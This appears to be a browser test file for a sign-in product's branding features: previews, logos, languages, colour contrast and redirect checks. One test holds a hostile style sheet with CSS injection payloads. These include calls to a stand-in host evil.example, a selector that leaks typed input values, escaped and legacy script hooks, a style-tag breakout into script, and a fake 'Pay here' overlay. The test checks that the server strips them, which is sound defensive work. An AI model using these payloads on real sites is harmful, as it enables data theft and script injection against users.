// A project's branding: the draft beside its preview, the pages that people see, and what a hostile style sheet can't do to them.

import assert from "node:assert/strict";
import { test } from "node:test";
import { expectStatus, ownServer, person } from "../harness/index.mjs";
import { png } from "../harness/pictures.mjs";
import { assertGoodPage, openBrowser, openBrowserOf, save } from "./browser.mjs";

const serving = ownServer();

async function make() {
	const server = await serving;
	const owner = await person(server, { name: "Ada Lovelace", orgName: "Analytical Engines" });
	const project = await owner.org.project({ name: "Shop" });
	const session = await owner.session({ headers: { "X-Project-Id": project.id } });
	return { server, owner, project, session, hosted: (page) => `https://${server.authHost}/p/${project.clientId}/${page}` };
}

/** What a reader sees of a card: each element's text, place and colours, without what has to differ between two loads. */
const LOOK = (root) => {
	const card = root.querySelector(".gh-card");
	const from = card.getBoundingClientRect();
	return [card, ...card.querySelectorAll("*")].filter((element) => element.getClientRects().length > 0).map((element) => {
		const { left, top, width, height } = element.getBoundingClientRect();
		const { color, backgroundColor, borderRadius, fontFamily, fontSize } = getComputedStyle(element);
		const own = [...element.childNodes].filter((node) => node.nodeType === 3).map((node) => node.textContent).join("");
		return [element.className, own, [left - from.left, top - from.top, width, height].map(Math.round).join(" "), color, backgroundColor, borderRadius, fontFamily, fontSize].join(" | ");
	});
};

const BRANDING = {
	app_name: "Corner Shop", primary_color: "#ffd400", background_color: "#20304a", theme: "light", radius: 4, card_width: 360, font: "serif",
	terms_url: "https://shop.example.com/terms", privacy_url: "https://shop.example.com/privacy", support_email: "help@shop.example.com",
	custom_css: ".gh-card { border: 3px dashed #ff0000 } .gh-brand { letter-spacing: 2px }",
};

test("the preview of a draft is the page that people get once it's saved, and nothing is public before", async () => {
	const { server, owner, project, session, hosted } = await make();
	const { page, ...browser } = await openBrowserOf(server, owner);
	await page.goto(`${server.url}/dashboard/projects/${project.id}/branding`);
	await page.getByLabel("Name", { exact: true }).fill(BRANDING.app_name);
	await page.getByRole("radiogroup", { name: "Theme" }).getByText("Light").click();
	await page.getByLabel("Colour", { exact: true }).fill(BRANDING.primary_color);
	await page.getByLabel("Background", { exact: true }).fill(BRANDING.background_color);
	await page.getByLabel(/^Corners/).fill("4");
	await page.getByLabel(/^Card:/).fill("360");
	await page.getByLabel("Font").selectOption("serif");
	for (const [label, name] of [["Terms", "terms_url"], ["Privacy", "privacy_url"], ["Help", "support_email"]])
		await page.getByLabel(label, { exact: true }).fill(BRANDING[name]);
	await page.getByLabel("Style sheet").fill(`${BRANDING.custom_css}\nbody { display: none }`);
	await page.getByText("Left out of what is served").waitFor();
	await page.getByText("isn't a class .gh-…", { exact: false }).waitFor();
	await assertGoodPage(page, "a draft of a branding");
	const frame = page.getByRole("img", { name: /^Preview: Sign in/ });
	const drafted = await frame.evaluate((host, look) => new Function("root", `return (${look})(root)`)(host.shadowRoot), LOOK.toString());
	assert.equal(expectStatus(await session.get("/api/v1/branding"), 200).app_name, null);

	await save(page);
	await page.getByText("Saved: the pages look like this now").waitFor();
	browser.assertCalm();
	await browser.close();

	const reader = await openBrowser();
	await reader.page.goto(hosted("sign-in"));
	await reader.page.getByLabel("E-mail address").waitFor();
	await reader.page.waitForFunction(() => getComputedStyle(document.querySelector(".gh-card")).borderTopStyle === "dashed");
	await reader.page.evaluate(() => document.activeElement.blur());
	const seen = await reader.page.evaluate((look) => new Function("root", `return (${look})(root)`)(document), LOOK.toString());
	assert.deepEqual(seen, drafted);
	await assertGoodPage(reader.page, "the branded page");
	reader.assertCalm();
	await reader.close();
});

test("the preview follows the page, the width, the colours and the language chosen for it", async () => {
	const { server, owner, project } = await make();
	const { page, ...browser } = await openBrowserOf(server, owner);
	await page.goto(`${server.url}/dashboard/projects/${project.id}/branding`);
	const frame = page.getByRole("img", { name: /^Preview/ });
	await frame.getByText("Sign in to Shop").waitFor();
	const titles = { Password: "Sign in to Shop", "Sign up": "Create your Shop account", "Code from the mail": "Check your mail", "Forgot password": "Forgot your password?", "New password": "Choose a new password", "Something went wrong": "That didn't work" };
	for (const [name, title] of Object.entries(titles)) {
		await page.getByLabel("Page", { exact: true }).selectOption(name);
		await frame.getByText(title).first().waitFor();
	}
	await page.getByLabel("Page", { exact: true }).selectOption("Sign up");
	await page.getByLabel("Language").selectOption("es");
	await frame.getByText("Crea tu cuenta de Shop").waitFor();
	const background = () => frame.evaluate((host) => getComputedStyle(host.shadowRoot.querySelector(".page")).backgroundColor);
	assert.equal(await background(), "rgb(245, 245, 244)");
	await page.getByRole("radiogroup", { name: "Colours" }).getByText("Dark").click();
	await page.getByRole("img", { name: /dark$/ }).waitFor();
	assert.equal(await background(), "rgb(19, 17, 16)");
	await page.getByRole("radiogroup", { name: "Width" }).getByText("Phone").click();
	await page.getByRole("img", { name: /phone/ }).waitFor();
	assert.ok((await frame.boundingBox()).width <= 375);
	assert.equal(await page.evaluate(() => document.title), "Branding · Gatehouse");
	browser.assertCalm();
	await browser.close();
});

test("a logo is chosen, seen in the preview, saved, and shown on the page; and removed again", async () => {
	const { server, owner, project, hosted } = await make();
	const { page, ...browser } = await openBrowserOf(server, owner);
	await page.goto(`${server.url}/dashboard/projects/${project.id}/branding`);
	await page.locator("input[type=file]").setInputFiles({ name: "logo.png", mimeType: "image/png", buffer: png({ width: 1600, height: 900 }) });
	await page.getByRole("img", { name: /^Preview/ }).locator("img").waitFor();
	await save(page);
	await page.getByText("Saved: the pages look like this now").waitFor();
	const reader = await openBrowser();
	await reader.page.goto(hosted("sign-in"));
	const logo = reader.page.locator(".gh-brand img");
	await logo.waitFor();
	assert.equal(await logo.evaluate((image) => image.decode().then(() => image.naturalWidth)), 512);
	await page.getByRole("button", { name: "Remove the logo" }).click();
	await save(page);
	await page.getByRole("button", { name: "Choose a picture" }).waitFor();
	await reader.page.reload();
	await reader.page.locator(".gh-mark").waitFor();
	for (const one of [browser, reader]) {
		one.assertCalm();
		await one.close();
	}
});

const HOSTILE = String.raw`
@import url("https://evil.example/x.css");
@font-face { font-family: x; src: url(https://evil.example/x.woff) }
.gh-card { background: url(https://evil.example/pixel.png); color: rgb(1, 2, 3) }
.gh-card { background-image: image-set("https://evil.example/a.png" 1x); cursor: url(https://evil.example/c.cur), auto }
input[value^="a"] { background: url(https://evil.example/a) }
.gh-page { position: fixed; inset: 0; z-index: 99999 }
.gh-card::before { content: "Pay here" }
.gh-card { w\69 dth: 1px; background: \75rl(https://evil.example/e) }
.gh-card { width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y) }
</style><script>window.broken = true</script><style>
.gh-card { color: red; } /* unclosed
`;

test("SE-13 rule 37 a hostile style sheet fetches nothing, runs nothing, hides nothing; its harmless part holds", async () => {
	const { session, hosted } = await make();
	const { css_removed } = expectStatus(await session.patch("/api/v1/branding", { custom_css: HOSTILE }), 200);
	assert.ok(css_removed.length >= 11, `${css_removed.length} things are listed`);
	const { page, ...browser } = await openBrowser();
	const asked = [];
	browser.context.on("request", (request) => asked.push(request.url()));
	await page.goto(hosted("sign-in"));
	await page.getByLabel("E-mail address").fill("ada@example.com");
	await page.waitForFunction(() => getComputedStyle(document.querySelector(".gh-card")).color === "rgb(255, 0, 0)" || getComputedStyle(document.querySelector(".gh-card")).color === "rgb(1, 2, 3)");
	assert.deepEqual(asked.filter((url) => url.includes("evil")), []);
	assert.equal(await page.evaluate(() => window.broken), undefined);
	const { position, content } = await page.evaluate(() => ({
		position: getComputedStyle(document.body).position, content: getComputedStyle(document.querySelector(".gh-card"), "::before").content,
	}));
	assert.deepEqual({ position, content }, { position: "static", content: "none" });
	await page.getByRole("button", { name: "Continue" }).click();
	await page.getByLabel("Password", { exact: true }).waitFor();
	browser.assertCalm();
	await browser.close();
});

test("whatever the brand's colours are, what stands on them can be read", async () => {
	const { session, hosted } = await make();
	for (const [primary_color, background_color, theme] of [["#ffff00", "#ffffff", "light"], ["#000000", "#000000", "dark"], ["#808080", "#7f7f7f", "light"]]) {
		expectStatus(await session.patch("/api/v1/branding", { primary_color, background_color, theme, terms_url: "https://shop.example.com/terms" }), 200);
		const { page, ...browser } = await openBrowser({ width: 320, height: 700 });
		await page.goto(hosted("sign-in"));
		await page.getByLabel("E-mail address").waitFor();
		await assertGoodPage(page, `${primary_color} on ${background_color}`);
		browser.assertCalm();
		await browser.close();
	}
});

test("the pages speak the language of the browser, of the address, and then of the reader's own choice", async () => {
	const { hosted } = await make();
	const { page, ...browser } = await openBrowser({ locale: "es-MX" });
	await page.goto(hosted("sign-in"));
	await page.getByRole("heading", { name: "Inicia sesión en Shop" }).waitFor();
	assert.equal(await page.evaluate(() => document.documentElement.lang), "es");
	await page.goto(`${hosted("sign-in")}?locale=en`);
	await page.getByRole("heading", { name: "Sign in to Shop" }).waitFor();
	await page.getByRole("button", { name: "Español" }).click();
	await page.getByRole("heading", { name: "Inicia sesión en Shop" }).waitFor();
	await page.goto(`${hosted("sign-up")}?locale=en`);
	await page.getByRole("heading", { name: "Crea tu cuenta de Shop" }).waitFor();
	browser.assertCalm();
	await browser.close();
});

test("an unknown project's page says so with the request's id", async () => {
	const { server } = await make();
	const { page, ...browser } = await openBrowser();
	await page.goto(`https://${server.authHost}/p/proj_${"0".repeat(24)}/sign-in`);
	await page.getByRole("heading", { name: "There is no such app here" }).waitFor();
	await page.getByText(/req_[a-z0-9]{16}/).waitFor();
	await assertGoodPage(page, "an unknown project");
	browser.assertCalm();
	await browser.close();
});

test("redirect targets are looked at as they are typed, and a sign-in without a target ends at the homepage", async () => {
	const { server, owner, project, session } = await make();
	const { page, ...browser } = await openBrowserOf(server, owner);
	await page.goto(`${server.url}/dashboard/projects/${project.id}/redirects`);
	const home = page.getByLabel("Homepage of the app");
	const button = page.getByRole("button", { name: "Save changes" });
	for (const [typed, said] of [["shop.example.com", "A whole address"], ["http://shop.example.com/", "https, except on localhost"], ["https://ada@shop.example.com/", "No name or password"], ["https://shop.example.com/#home", "No part behind #"]]) {
		await home.fill(typed);
		await page.getByText(said).waitFor();
		assert.ok(await button.isDisabled());
	}
	await home.fill("https://shop.example.com/home");
	await page.getByLabel("After signing out").fill("https://shop.example.com/bye\nhttp://localhost:3000/bye");
	await assertGoodPage(page, "redirects");
	await save(page, "Save changes");
	await page.getByText("Redirects saved").waitFor();
	const saved = expectStatus(await session.get("/api/v1/redirect_settings"), 200);
	assert.equal(saved.app_homepage_url, "https://shop.example.com/home");
	assert.deepEqual(saved.sign_out_redirects, ["https://shop.example.com/bye", "http://localhost:3000/bye"]);
	browser.assertCalm();
	await browser.close();
});
